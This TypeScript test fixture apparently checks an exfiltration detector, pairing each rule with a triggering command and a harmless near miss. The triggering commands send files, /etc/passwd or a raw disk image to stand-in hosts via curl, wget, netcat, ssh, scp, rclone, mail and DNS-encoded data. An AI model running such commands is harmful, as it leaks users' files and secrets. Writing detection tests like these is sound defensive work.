import type { Deed } from './deed.ts';

export const EXFILTRATION: readonly Deed[] = [
  {
    rule: 'curl_sends_file',
    script: 'fake curl -F file=@/tmp/x http://host.example/',
    near: 'fake curl -o /tmp/x http://host.example/',
  },
  {
    rule: 'wget_sends_file',
    script: 'fake wget --post-file=/tmp/x http://host.example/',
    near: 'fake wget http://host.example/',
  },
  {
    rule: 'output_sent_by_netcat',
    script: 'sh -c \': x "| nc 192.0.2.1 1"\'',
    near: 'sh -c \': x "| cat"\'',
  },
  {
    rule: 'archive_sent_through_pipe',
    script: 'sh -c \': tar c x "| ssh host"\'',
    near: 'sh -c \': tar c x "| cat"\'',
  },
  {
    rule: 'secrets_sent_by_copy_tool',
    script: 'fake scp -r /etc/passwd host:x',
    near: 'fake scp -i /root/.ssh/key file host:x; fake scp file host:x',
  },
  {
    rule: 'cloud_copy_tool_run',
    script: 'fake rclone copy folder remote:x',
    near: 'fake rclone listremotes',
  },
  {
    rule: 'folder_served_over_http',
    script: 'fake python3 -m http.server 8000',
    near: 'fake python3 -m json.tool x',
  },
  {
    rule: 'file_sent_by_mail',
    script: 'fake mutt -s x -a file -- a@b',
    near: 'fake mutt -s x a@b',
  },
  {
    rule: 'data_in_dns_question',
    script: 'fake dig aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA.x.example',
    near: 'fake dig www.example',
  },
  {
    rule: 'dns_file_drop_service',
    script: 'as resolver $S/deeds; unshare --net /opt/resolver dns transfer.sh 1',
    near: 'as resolver $S/deeds; unshare --net /opt/resolver dns transfer.example 1',
  },
  {
    rule: 'much_sent_by_shell_tool',
    script: 'as openssl $S/deeds; unshare --net /opt/openssl send 51',
    near: 'as openssl $S/deeds; unshare --net /opt/openssl send 1; as x $S/deeds; unshare --net /opt/x send 51',
  },
  {
    rule: 'disk_image_sent',
    script: 'sh -c \': dd if=/dev/sda "| ssh host"\'',
    near: 'sh -c \': dd if=/dev/zero "| ssh host"\'',
  },
];
